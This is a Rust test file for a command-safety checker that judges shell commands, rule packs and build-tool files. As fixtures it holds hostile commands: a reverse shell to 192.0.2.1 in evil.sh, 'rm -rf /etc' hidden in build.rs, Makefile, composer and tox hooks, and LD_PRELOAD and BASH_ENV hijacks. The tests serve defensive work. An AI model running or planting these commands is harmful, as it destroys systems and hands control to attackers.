//! Rule packs, expectations, explanations, and the scripts that a command names.

use std::fs;

use crate::lab::Lab;

const PACK: &str = "pack: acme
rules:
  - id: acme.deploy
    score: high
    effects: [affects-remote]
    held: nothing
    why: pushes to production
    safer: ask the release manager
    when: ['deployctl push']
    match: [deployctl push]
    not_match: [deployctl status]
deny:
  - {command: git push, why: only the release job pushes}
allow:
  - {command: git reset --hard, why: the tree is a copy}
";

/// A lab with the pack beside its workspace, and the pack's path.
fn lab_with(pack: &str) -> (Lab, String) {
    let lab = Lab::new();
    let path = lab.root().join("acme.yaml");
    fs::write(&path, pack).unwrap();
    (lab, path.to_string_lossy().into_owned())
}

#[test]
fn a_pack_decides_in_check_and_in_run() {
    let (lab, pack) = lab_with(PACK);
    let check = |command: &[&str]| {
        let args = [&["check", "--rules", &pack, "--"], command].concat();
        lab.sandbox(&args)
    };
    check(&["deployctl", "push"]).code(10).prints("acme.deploy");
    check(&["git", "push"])
        .code(20)
        .prints("only the release job pushes");
    check(&["git", "reset", "--hard"]).code(0);
    lab.sandbox(&["check", "--", "git", "push"]).code(0);

    let config = lab.root().join("config.yaml");
    let text = format!("safety_constraints: {{rules: ['{pack}']}}\n");
    fs::write(&config, text).unwrap();
    let config = config.to_string_lossy().into_owned();
    lab.sandbox(&["run", "-c", &config, "--", "git", "push"])
        .code(126)
        .says("only the release job pushes");
}

#[test]
fn a_wrong_pack_is_named_and_never_left_out() {
    let (lab, pack) = lab_with(&PACK.replace("deny:", "denny:"));
    lab.sandbox(&["policy", "validate", &pack])
        .code(2)
        .says("acme.yaml:12:1: unknown field `denny`");
    lab.sandbox(&["check", "--rules", &pack, "--", "ls"])
        .code(2);
    let (lab, pack) = lab_with(&PACK.replace("deployctl status", "deployctl push"));
    lab.sandbox(&["policy", "validate", &pack])
        .code(2)
        .says("the rule `acme.deploy` finds `deployctl push`");
    let lab = lab.file("inside.yaml", PACK);
    lab.sandbox(&["check", "--rules", "inside.yaml", "--", "ls"])
        .code(2)
        .says("inside of the workspace");
}

#[test]
fn expectations_are_compared() {
    let (lab, pack) = lab_with(PACK);
    let lab = lab
        .file("good.yaml", "- {command: git push, decision: deny, rules: [policy.deny]}\n- {command: ls, decision: allow}\n")
        .file("bad.yaml", "- command: ls\n  decision: ask\n")
        .file("wrong.yaml", "- command: ls\n  decide: ask\n");
    lab.sandbox(&["policy", "test", "good.yaml", "--rules", &pack])
        .code(0)
        .prints("2 of 2 as expected");
    lab.sandbox(&["policy", "test", "bad.yaml"])
        .code(1)
        .prints("bad.yaml:1: expected ask, and it is allow: ls");
    lab.sandbox(&["policy", "test", "wrong.yaml"])
        .code(2)
        .says("wrong.yaml:2:3: unknown field `decide`");
}

#[test]
fn a_decision_is_explained() {
    let lab = Lab::new();
    lab.sandbox(&[
        "check",
        "--explain",
        "--in-sandbox",
        "--",
        "git",
        "reset",
        "--hard",
    ])
    .code(0)
    .prints("score      35, in the sandbox 1: undo takes it back")
    .prints("safer      git stash keeps it")
    .prints("allow: a low risk is below the level from which the profile asks");
}

#[test]
fn scripts_that_a_command_names_are_judged() {
    let lab = Lab::new()
        .file(
            "evil.sh",
            "echo hi\nbash -i >& /dev/tcp/192.0.2.1/4242 0>&1\n",
        )
        .file("fine.sh", "echo hi\nrm -rf build\n")
        .file(
            "Makefile",
            "all: gone\ngone:\n\trm -rf /etc\nfine:\n\techo ok\n",
        );
    lab.sandbox(&["check", "--", "sh", "evil.sh"])
        .code(20)
        .prints("net.reverse-shell");
    lab.sandbox(&["check", "--shell", "ls && ./evil.sh"])
        .code(20);
    lab.sandbox(&["check", "--", "sh", "fine.sh"]).code(0);
    lab.sandbox(&["check", "--", "make"]).code(20);
    lab.sandbox(&["check", "--", "make", "fine"]).code(0);
    // In a sandbox it is the confinement that holds what a file does.
    lab.sandbox(&["check", "--in-sandbox", "--", "sh", "evil.sh"])
        .code(0);
}

#[test]
fn files_of_build_tools_are_judged_for_a_check() {
    let lab = Lab::new()
        .file(
            "build.rs",
            "fn main() { Command::new(\"sh\").args([\"-c\", \"rm -rf /etc\"]).status(); }\n",
        )
        .file(
            "justfile",
            "all: gone\ngone:\n    rm -rf /etc\nfine:\n    echo ok\n",
        )
        .file(
            "composer.json",
            "{\"scripts\": {\"post-install-cmd\": [\"rm -rf /etc\"], \"x\": \"ls\"}}",
        )
        .file("tox.ini", "[testenv]\ncommands =\n    rm -rf /etc\n")
        .file(
            "noxfile.py",
            "def x(session):\n    session.run('rm', '-rf', '/etc')\n",
        )
        .file("sub/Makefile", "all:\n\trm -rf /etc\n");
    for (argv, code) in [
        (&["cargo", "build"][..], 20),
        (&["cargo", "fmt"], 0),
        (&["just"], 20),
        (&["just", "fine"], 0),
        (&["composer", "install"], 20),
        (&["composer", "run", "x"], 0),
        (&["tox"], 20),
        (&["nox"], 20),
        (&["make", "-C", "sub"], 20),
        (&["make", "-C", "other"], 0),
    ] {
        lab.sandbox(&[&["check", "--"], argv].concat()).code(code);
    }
}

#[test]
fn a_site_gives_the_numbers_of_the_risk() {
    let (lab, pack) = lab_with("pack: p\nrisk: {ask_from: {default: 90}, class_adds: 5}\n");
    let push = ["check", "--explain", "--", "git", "push", "--force"];
    lab.sandbox(&push)
        .code(10)
        .prints("asks from 25, denies from 80");
    lab.sandbox(&[&["check", "--rules", &pack], &push[1..]].concat())
        .code(0)
        .prints("asks from 90, denies from 80");
    let (lab, pack) = lab_with("pack: p\nrisk:\n  ask_from: {audit: 1}\n");
    lab.sandbox(&["policy", "validate", &pack])
        .code(2)
        .says("acme.yaml:3:14: unknown field `audit`");
    lab.sandbox(&["check", "--rules", &pack, "--", "ls"])
        .code(2);
}

#[test]
fn a_descriptor_that_is_none_is_no_mistake_of_ours() {
    let lab = Lab::new();
    let ended = lab.sandbox(&["check", "--shell", "99999999999999999999>x; rm -rf /"]);
    ended.code(20).prints("fs.delete-root");
    assert!(!ended.to_string().contains("panicked"), "{ended}");
}

#[test]
fn the_environment_and_the_input_of_a_document_count() {
    let lab = Lab::new();
    for (document, code) in [
        (
            r#"{"type":"command","command":"ls","env":{"LD_PRELOAD":"/tmp/x.so"}}"#,
            10,
        ),
        (
            r#"{"type":"command","command":"ls","env":{"BASH_ENV":"/tmp/x"}}"#,
            10,
        ),
        (
            r#"{"type":"command","command":"git fetch","env":{"GIT_SSH_COMMAND":"./x"}}"#,
            10,
        ),
        (
            r#"{"type":"command","command":"$DO","env":{"DO":"rm -rf /"}}"#,
            20,
        ),
        (r#"{"type":"command","command":"ls","env":{"LANG":"C"}}"#, 0),
        (
            r#"{"type":"command","args":["sh","-s"],"stdin":"rm -rf /"}"#,
            20,
        ),
        (
            r#"{"type":"command","command":"cat | sh","stdin":"ls"}"#,
            10,
        ),
        (
            r#"{"type":"script","interpreter":"/opt/odd","source":"rm -rf /"}"#,
            20,
        ),
        (
            r#"{"type":"script","interpreter":"python3","source":"print(1)"}"#,
            0,
        ),
    ] {
        lab.sandbox_with_input(&["check", "--operation", "-"], document)
            .code(code);
    }
}
